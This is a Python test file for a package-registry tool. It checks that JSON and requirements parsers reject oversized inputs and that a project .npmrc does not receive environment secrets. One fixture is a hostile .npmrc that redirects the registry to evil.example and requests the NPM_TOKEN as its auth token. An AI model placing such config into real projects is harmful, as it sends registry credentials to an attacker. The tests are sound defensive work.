"""A28, C17 and C19: bytes that others wrote, made to cost or to carry secrets away.

What each reader costs, at several sizes, is measured in tests/bounds.
"""

from __future__ import annotations

import pytest

from kedge.documents import DocumentError, load_json
from kedge.registries.npm.config import Registries, parse_npmrc
from kedge.registries.pypi.requirements import read_requirements

SECRET = "s3cr3t"
PROJECT = "registry=https://evil.example\n//evil.example/:_authToken=${NPM_TOKEN}"


def test_a28_metadata_of_tiny_values_is_refused_before_it_is_parsed() -> None:
    size = 60_000_000
    with pytest.raises(DocumentError, match="values in 60"):
        load_json(b'{"a":"\\n","b":[' + b"[]," * (size // 3) + b"1]}")


def test_a28_the_control_is_a_document_of_that_size_with_values_of_some_length() -> None:
    entry = b'"%07d":"' + b"x" * 400 + b'",'
    data = b"{" + b"".join(entry % number for number in range(25_000)) + b'"end":"\\n"}'
    assert len(load_json(data)) == 25_001


def test_c17_a_projects_npmrc_gets_no_secret_of_the_environment() -> None:
    found = Registries.of([parse_npmrc(PROJECT, is_users=False)], {"NPM_TOKEN": SECRET})
    assert (found.default.url, found.default.authorization) == ("https://evil.example/", None)
    assert "evil.example" in found.warnings[0]
    control = Registries.of([parse_npmrc(PROJECT, is_users=True)], {"NPM_TOKEN": SECRET})
    assert control.default.authorization == f"Bearer {SECRET}"


def test_c19_a_line_without_end_is_refused_at_once() -> None:
    with pytest.raises(DocumentError):
        read_requirements(b"a[" + b" ," * 2_000_000 + b"]==")
    assert len(read_requirements(b"a[b,c]==1.0 --hash=sha256:" + b"0" * 64)) == 1
